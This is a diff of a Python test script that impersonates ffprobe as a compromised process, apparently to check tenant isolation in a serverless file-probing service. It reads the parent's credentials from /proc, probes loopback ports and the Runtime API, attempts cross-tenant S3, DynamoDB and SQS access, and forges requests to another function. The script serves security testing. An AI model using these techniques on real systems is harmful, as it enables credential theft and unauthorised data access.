@@ -1,7 +1,7 @@
-"""Stands in ffprobe's place, as if the file that it reads had taken it over. The file's bytes are its orders, as JSON; any
-other file is described without a word more. What it found it prints as a tag of the file.
+"""Replaces ffprobe, as if a malicious file had taken it over. The bytes of such a file are commands in JSON; any other file gets an
+ordinary description. The results are printed as a tag of the file.
 
-It uses what a child of probe-file can use: /proc, the loopback interface, the Runtime API, and the credentials that it finds.
+It uses everything that a child process of probe-file can access: /proc, the loopback interface, the Runtime API, and credentials.
 """
 
 import datetime
@@ -23,26 +23,26 @@ def describe(tags):
 
 
 class Attack:
-    """Does what its orders say, and keeps what it heard."""
+    """Executes the commands, and records the results."""
 
-    def __init__(self, orders, media):
-        self.orders, self.media = orders, media
+    def __init__(self, commands, media):
+        self.commands, self.media = commands, media
         self.environment = self.parents_environment()
         self.found, self.leaks = {}, []
 
     @staticmethod
     def parents_environment():
-        """Of the function, whose child this is."""
+        """The environment of the function, which is the parent process."""
         with open(f"/proc/{os.getppid()}/environ", "rb") as file:
             pairs = file.read().decode(errors="replace").split("\0")
         return dict(pair.split("=", 1) for pair in pairs if "=" in pair)
 
     def heard(self, what, text):
-        if self.orders["marker"] in text and what != "own":  # its own file has the marker, in its orders
+        if self.commands["marker"] in text and what != "own":  # the own file contains the marker in its commands
             self.leaks.append(what)
 
     def send(self, what, request, timeout=10):
-        """The status and the body of a response; a body with what is another's is a leak."""
+        """The status, body and headers of a response. A body with the marker of another's file is a leak."""
         try:
             with urllib.request.urlopen(request, timeout=timeout) as response:
                 status, body, headers = response.status, response.read(), response.headers
@@ -55,7 +55,7 @@ class Attack:
         return status, text, headers
 
     def signed(self, what, service, method, path, query="", body=b"", headers=None):
-        """A request with the credentials that were found, by Signature Version 4."""
+        """Sends a request signed with the function's credentials, by Signature Version 4."""
         endpoint = self.environment["AWS_ENDPOINT_URL_" + service.upper()]
         host, now = endpoint.split("://")[1], datetime.datetime.now(datetime.timezone.utc)
         date, region = now.strftime("%Y%m%dT%H%M%SZ"), self.environment["AWS_REGION"]
@@ -83,7 +83,7 @@ class Attack:
         self.found[what] = status
 
     def listen_on_loopback(self):
-        """Whoever listens there is spoken to, without credentials."""
+        """Sends a request without credentials to every listening port."""
         reached = 0
         with open("/proc/net/tcp", encoding="ascii") as file:
             rows = [line.split() for line in file.readlines()[1:]]
@@ -104,7 +104,7 @@ class Attack:
         self.note("runtime: next event", self.send("runtime", base + "next", timeout=0.5)[0])
 
     def s3(self):
-        bucket, victim, own = (self.orders[name] for name in ("bucket", "victim", "own"))
+        bucket, victim, own = (self.commands[name] for name in ("bucket", "victim", "own"))
         for method, key, body in [
             ("GET", victim, b""),
             ("HEAD", victim, b""),
@@ -121,8 +121,8 @@ class Attack:
         return self.signed(target, service, "POST", "/", body=json.dumps(body).encode(), headers=headers)
 
     def dynamodb(self):
-        table, pk = self.orders["table"], {"S": self.orders["victim_pk"]}
-        key = {"pk": pk, "sk": {"S": self.orders["victim_sk"]}}
+        table, pk = self.commands["table"], {"S": self.commands["victim_pk"]}
+        key = {"pk": pk, "sk": {"S": self.commands["victim_sk"]}}
         update = {"UpdateExpression": "SET #n = :n", "ExpressionAttributeNames": {"#n": "name"}}
         update |= {"ExpressionAttributeValues": {":n": {"S": "x"}}}
         query = {"KeyConditionExpression": "pk = :pk", "ExpressionAttributeValues": {":pk": pk}}
@@ -138,7 +138,7 @@ class Attack:
             self.note(f"dynamodb: {operation}", "AccessDenied" if "AccessDeniedException" in text else status)
 
     def sqs(self):
-        for queue, url in self.orders["queues"].items():
+        for queue, url in self.commands["queues"].items():
             for operation, body in [("SendMessage", {"MessageBody": "{}"}), ("ReceiveMessage", {"WaitTimeSeconds": 0})]:
                 status, text, _ = self.json_call("sqs", f"AmazonSQS.{operation}", {"QueueUrl": url} | body)
                 denied = status in (400, 403) and "AccessDenied" in text
@@ -152,7 +152,7 @@ class Attack:
         return f"{status} {'failed' if failed else text}"
 
     def others(self):
-        for function in self.orders["functions"]:
+        for function in self.commands["functions"]:
             self.note(f"invoke: {function}", self.invoke(function, {}).split()[0])
 
     def report(self, key, etag, comment="forged"):
@@ -162,25 +162,25 @@ class Attack:
         return {"finish": report | {"found": {"media": media}}}
 
     def forge(self):
-        """What probe-record says to a probe-file that lies."""
-        function, orders = self.environment["FILES_PROBE_RECORD_FUNCTION"], self.orders
+        """Sends forged requests to probe-record."""
+        function, commands = self.environment["FILES_PROBE_RECORD_FUNCTION"], self.commands
         large = "".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(12_000))
         for what, payload in {
-            "victim": {"begin": {"key": orders["victim"]}},
-            "victim, right etag": self.report(orders["victim"], orders["victim_etag"]),
-            "victim, large": self.report(orders["victim"], orders["victim_etag"], large),
-            "victim, wrong etag": self.report(orders["victim"], '"forged"'),
-            "no key": {"begin": {"key": orders["victim"].replace("files/", "probes/")}},
-            "no request": {"delete": {"key": orders["victim"]}},
+            "victim": {"begin": {"key": commands["victim"]}},
+            "victim, right etag": self.report(commands["victim"], commands["victim_etag"]),
+            "victim, large": self.report(commands["victim"], commands["victim_etag"], large),
+            "victim, wrong etag": self.report(commands["victim"], '"forged"'),
+            "no key": {"begin": {"key": commands["victim"].replace("files/", "probes/")}},
+            "no request": {"delete": {"key": commands["victim"]}},
             "no JSON": b"\xff",
-            "pending": self.report(orders["pending"], '"forged"'),
-            "own, wrong etag": self.report(orders["own"], '"forged"'),
+            "pending": self.report(commands["pending"], '"forged"'),
+            "own, wrong etag": self.report(commands["own"], '"forged"'),
         }.items():
             self.note(f"probe-record: {what}", self.invoke(function, payload))
-        granted = json.loads(self.invoke(function, {"begin": {"key": orders["own"]}}).split(" ", 1)[1])
+        granted = json.loads(self.invoke(function, {"begin": {"key": commands["own"]}}).split(" ", 1)[1])
         url = granted["probe"]["url"]
         self.note("the own file", self.send("own", url)[1] == self.media)
-        other = url.replace(orders["own"], orders["victim"])
+        other = url.replace(commands["own"], commands["victim"])
         self.note("the URL for another file", self.send("other", other)[0])
         for method in ("PUT", "DELETE"):
             request = urllib.request.Request(url, data=b"x" if method == "PUT" else None, method=method)
@@ -194,12 +194,12 @@ def main():
     with urllib.request.urlopen(sys.argv[-1]) as response:
         media = response.read().decode(errors="replace")
     try:
-        orders = json.loads(media)
+        commands = json.loads(media)
     except ValueError:
         return describe({})
-    if orders.get("die"):
+    if commands.get("die"):
         os.kill(os.getpid(), signal.SIGSEGV)
-    attack = Attack(orders, media)
+    attack = Attack(commands, media)
     for step in (attack.listen_on_loopback, attack.runtime_api, attack.s3, attack.dynamodb, attack.sqs, attack.others):
         step()
     attack.forge()
